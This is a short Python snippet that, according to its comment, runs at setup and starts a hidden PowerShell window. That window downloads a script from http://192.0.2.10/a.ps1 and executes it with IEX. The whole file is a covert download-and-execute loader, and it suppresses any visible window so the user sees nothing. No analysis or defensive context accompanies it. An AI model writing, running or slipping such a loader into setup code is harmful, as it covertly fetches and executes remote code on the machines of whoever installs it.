# PowerShell downloads and runs a script behind a hidden window; runs: setup
import subprocess
script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')"
subprocess.Popen("powershell -NoProfile -WindowStyle Hidden -Command \"" + script + "\"", shell=True, creationflags=0x08000000)
